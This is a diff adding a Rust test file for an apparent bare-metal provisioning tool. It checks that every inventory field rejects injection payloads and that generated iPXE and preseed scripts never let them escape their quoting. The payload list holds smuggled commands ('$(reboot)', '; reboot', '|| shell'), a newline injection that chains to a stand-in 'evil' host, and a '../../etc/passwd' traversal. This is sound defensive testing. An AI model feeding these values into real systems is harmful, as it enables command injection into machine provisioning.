@@ -1,0 +1,201 @@
+//! Hostile inventory values — newlines, `#!ipxe` lines, iPXE expansions,
+//! shell metacharacters, `../` — in every field. Two layers are proven:
+//! loading refuses each one naming the field, and, should a value ever get
+//! past validation, the renderers refuse to print it rather than let it add a
+//! line, a command or an argument.
+
+mod common;
+use metalboot::inventory::Inventory;
+use metalboot::render::Renderer;
+use metalboot::script::{self, Platform, Site};
+use metalboot_spec::{HostSpec, Method};
+
+const KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl ops@example";
+
+const PAYLOADS: &[&str] = &[
+    "x\n#!ipxe\nchain http://evil/",
+    "x\r\nd-i preseed/late_command string reboot",
+    "${net0/mac}",
+    "a\tb",
+    "x && chain http://evil/",
+    "x || shell",
+    "x'; reboot; '",
+    "$(reboot)",
+    "`reboot`",
+    "x; reboot",
+    "../../etc/passwd",
+    "x\"y",
+    "x#y",
+];
+
+/// Every string-valued field of a host, as a TOML line that sets it to `v`.
+fn field_lines(v: &str) -> Vec<(&'static str, String)> {
+    let q = toml_quote(v);
+    vec![
+        ("name", format!("name = {q}")),
+        ("macs[0]", format!("macs = [{q}]")),
+        ("labels[0]", format!("labels = [{q}]")),
+        ("disk.path", format!("disk = {{ path = {} }}", toml_quote(&format!("/dev/{v}")))),
+        ("disk.serial", format!("disk = {{ serial = {q} }}")),
+        ("disk.wwn", format!("disk = {{ wwn = {q} }}")),
+        ("disk.model", format!("disk = {{ model = {q} }}")),
+        ("disk.min_size", format!("disk = {{ min_size = {q} }}")),
+        ("layout.subvolumes", format!("layout = {{ subvolumes = [{{ name = \"@\", mountpoint = \"/\" }}, {{ name = {}, mountpoint = \"/x\" }}] }}", toml_quote(&format!("@{v}")))),
+        ("layout.subvolumes", format!("layout = {{ subvolumes = [{{ name = \"@\", mountpoint = \"/\" }}, {{ name = \"@x\", mountpoint = {} }}] }}", toml_quote(&format!("/{v}")))),
+        ("layout.mount_options", format!("layout = {{ mount_options = {q} }}")),
+        ("network.addresses[0]", format!("network = {{ mode = \"static\", addresses = [{q}] }}")),
+        ("network.search[0]", format!("network = {{ search = [{q}] }}")),
+        ("ssh_authorized_keys[0]", format!("ssh_authorized_keys = [{}]", toml_quote(&format!("{KEY} {v}")))),
+        ("root_password_hash", format!("root_password_hash = {}", toml_quote(&format!("$6$salt${v}")))),
+        ("image", format!("image = {q}")),
+        ("kernel_args[0]", format!("kernel_args = [{q}]")),
+        ("handoff.ansible_user", format!("handoff = {{ ansible_user = {q} }}")),
+    ]
+}
+
+fn toml_quote(s: &str) -> String {
+    serde_json::to_string(s).unwrap()
+}
+
+fn host_with(line: &str) -> String {
+    let mut base = vec![
+        ("name", "name = \"h1\"".to_string()),
+        ("macs", "macs = [\"52:54:00:00:00:01\"]".to_string()),
+        ("disk", "disk = { serial = \"S1\" }".to_string()),
+        ("ssh_authorized_keys", format!("ssh_authorized_keys = [{}]", toml_quote(KEY))),
+    ];
+    let key = line.split(' ').next().unwrap();
+    base.retain(|(k, _)| *k != key);
+    let mut s = String::from("[[host]]\n");
+    for (_, l) in base {
+        s.push_str(&l);
+        s.push('\n');
+    }
+    s.push_str(line);
+    s.push('\n');
+    s
+}
+
+#[test]
+fn every_field_refuses_every_payload_at_load() {
+    let mut checked = 0;
+    for p in PAYLOADS {
+        for (field, line) in field_lines(p) {
+            if field == "root_password_hash" && p.starts_with("../") {
+                // '.' and '/' belong to the crypt(3) alphabet, so "../" can be part of a
+                // real hash; the hash is only ever an opaque debconf or JSON value.
+                checked += 1;
+                continue;
+            }
+            let text = host_with(&line);
+            match Inventory::from_sources([("hosts.toml", text.as_str())]) {
+                Ok(_) => panic!("field {field} accepted payload {p:?}:\n{text}"),
+                Err(e) => {
+                    let msg = format!("{e:#}");
+                    assert!(
+                        msg.contains(&format!("field `{field}")),
+                        "payload {p:?} in {field}: error does not name the field: {msg}"
+                    );
+                }
+            }
+            checked += 1;
+        }
+    }
+    assert_eq!(checked, PAYLOADS.len() * 18);
+}
+
+fn fixture_host() -> HostSpec {
+    let inv = Inventory::load(&common::fixtures().join("inventory")).unwrap();
+    let mut h = inv.get("db1").unwrap().clone();
+    h.disk.path = Some("/dev/sda".into());
+    h
+}
+
+/// Applies `v` to every string the renderers print, bypassing validation.
+fn poisoned(v: &str, method: Method) -> Vec<(&'static str, HostSpec)> {
+    let base = HostSpec { method, ..fixture_host() };
+    let mut out = Vec::new();
+    let mut h = base.clone();
+    h.name = v.into();
+    out.push(("name", h));
+    let mut h = base.clone();
+    h.kernel_args = vec![v.into()];
+    out.push(("kernel_args", h));
+    let mut h = base.clone();
+    h.disk.path = Some(v.into());
+    out.push(("disk.path", h));
+    let mut h = base.clone();
+    h.disk.serial = Some(v.into());
+    out.push(("disk.serial", h));
+    let mut h = base.clone();
+    h.ssh_authorized_keys = vec![v.into()];
+    out.push(("ssh_authorized_keys", h));
+    let mut h = base.clone();
+    h.root_password_hash = Some(v.into());
+    out.push(("root_password_hash", h));
+    let mut h = base;
+    h.network.search = vec![v.into()];
+    out.push(("network.search", h));
+    out
+}
+
+#[test]
+fn renderers_refuse_values_that_would_inject() {
+    let r = Renderer::embedded().unwrap();
+    let cfg = common::fixture_config(std::path::Path::new("/tmp"));
+    let site = Site { base_url: "http://192.0.2.1:8080", console: &cfg.console, debian: &cfg.debian_installer };
+    let mac = "52:54:00:00:00:02".parse().unwrap();
+    let clean_ipxe = script::install_script(&r, &site, &fixture_host(), &mac, Platform::Pcbios, "T").unwrap();
+    let clean_preseed = script::preseed(&r, &site, &fixture_host(), "T").unwrap();
+    for p in PAYLOADS {
+        for method in [Method::Image, Method::DebianInstaller] {
+            for (field, h) in poisoned(p, method) {
+                if let Ok(out) = script::install_script(&r, &site, &h, &mac, Platform::Pcbios, "T") {
+                    // Rendered: then the value never reached the script at all.
+                    assert_eq!(out.lines().count(), clean_ipxe.lines().count(), "{field} {p:?}:\n{out}");
+                    assert!(!out.contains(p), "{field} {p:?} reached the iPXE script:\n{out}");
+                }
+                if let Ok(out) = script::preseed(&r, &site, &h, "T") {
+                    assert_eq!(
+                        out.lines().count(),
+                        clean_preseed.lines().count(),
+                        "{field} {p:?} added a line:\n{out}"
+                    );
+                    assert_no_shell_injection(&out, field, p);
+                }
+            }
+        }
+    }
+}
+
+/// Runs every shell command of a preseed in `sh` with the commands it calls
+/// (and the payloads' `reboot`, `chain`, `shell`) replaced by functions: a
+/// payload that escaped its quoting prints INJECTED.
+fn assert_no_shell_injection(preseed: &str, field: &str, p: &str) {
+    let prelude = "reboot(){ echo INJECTED; }; chain(){ echo INJECTED; }; shell(){ echo INJECTED; }; \
+                   wget(){ :; }; mkdir(){ :; }; chmod(){ :; }; printf(){ :; }; cd /tmp; ";
+    for line in preseed.lines() {
+        let Some(cmd) = [
+            "d-i preseed/early_command string ",
+            "d-i partman/early_command string ",
+            "d-i preseed/late_command string ",
+        ]
+        .iter()
+        .find_map(|pre| line.strip_prefix(pre)) else {
+            continue;
+        };
+        let cmd = cmd.replace("/target/root/.ssh/authorized_keys", "/dev/null");
+        let out = std::process::Command::new("sh").args(["-c", &format!("{prelude}{cmd}")]).output().unwrap();
+        let stdout = String::from_utf8_lossy(&out.stdout);
+        assert!(!stdout.contains("INJECTED"), "{field} {p:?} ran a command:\n{line}");
+    }
+}
+
+#[test]
+fn shell_quoted_payloads_stay_literal_in_a_real_shell() {
+    for p in PAYLOADS.iter().filter(|p| !p.contains(['\n', '\r'])) {
+        let cmd = format!("printf '%s' {}", metalboot::render::shell_quote(p));
+        let out = std::process::Command::new("sh").args(["-c", &cmd]).output().unwrap();
+        assert_eq!(String::from_utf8_lossy(&out.stdout), *p);
+    }
+}
